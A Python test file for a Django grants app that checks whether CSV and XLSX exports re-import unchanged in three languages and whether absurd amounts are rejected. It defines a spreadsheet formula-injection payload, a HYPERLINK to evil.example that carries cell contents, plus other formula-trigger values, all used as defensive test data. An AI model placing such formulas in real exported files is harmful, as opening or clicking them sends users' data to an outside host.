"""Every grants export imports back unchanged, in each language and format."""

import datetime
from decimal import Decimal

import pytest
from django.utils import translation

from grants import exports, imports
from grants.models import Funder, Grant, SteaType
from membership.kernel import spreadsheets
from membership.models import Municipality
from tests.factories import OrganisationFactory

from .factories import GrantFactory, GrantRoundFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'


def _grants():
    vantaa, kerava = Municipality.objects.get(code="092"), Municipality.objects.get(code="245")
    organisation = OrganisationFactory(name_fi=PAYLOAD, name_sv="+Förening")
    grant_round = GrantRoundFactory(name="Toiminta-avustukset")
    GrantFactory(organisation=organisation, activity=PAYLOAD, grant_round=grant_round, municipality=vantaa)
    GrantFactory(
        funder=Funder.MUNICIPALITY,
        funder_municipality=kerava,
        activity="-Kerho",
        amount_applied=Decimal("1234.56"),
        amount_granted=Decimal("1000.50"),
        status=Grant.Status.PAID,
        report_due_on=datetime.date(2026, 3, 31),
        report_received_on=datetime.date(2026, 2, 1),
    )
    GrantFactory(funder=Funder.STEA, stea_type=SteaType.AK, activity="@Neuvonta", status=Grant.Status.APPLIED)
    GrantFactory(funder=Funder.OTHER, funder_name="Säätiö X", activity="'Lainaus", grant_type=None, year=2024)


def _export(fmt: str) -> bytes:
    grants = Grant.objects.all()
    return exports.to_csv(grants) if fmt == "csv" else exports.to_xlsx(grants)


@pytest.mark.parametrize("language", ["fi", "sv", "en"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_grants_export_imports_back_with_no_change(language, fmt):
    _grants()
    with translation.override(language):
        first = _export(fmt)
        Grant.objects.all().delete()
        assert imports.save_import(first) == 4
        again = _export(fmt)
    assert spreadsheets.read_rows(again) == spreadsheets.read_rows(first)
    if fmt == "csv":
        assert again == first


def test_the_finnish_header_of_the_granted_amount_is_known():
    with translation.override("fi"):
        assert imports._header_names()["myönnetty summa (€)"] == "amount_granted"


@pytest.mark.parametrize("amount", ["1e308", "NaN", "Infinity", "-Infinity", "1" + "0" * 30, "1e999999"])
def test_amounts_beyond_the_model_get_a_message(amount):
    with pytest.raises(ValueError):
        imports.parse_amount(amount)
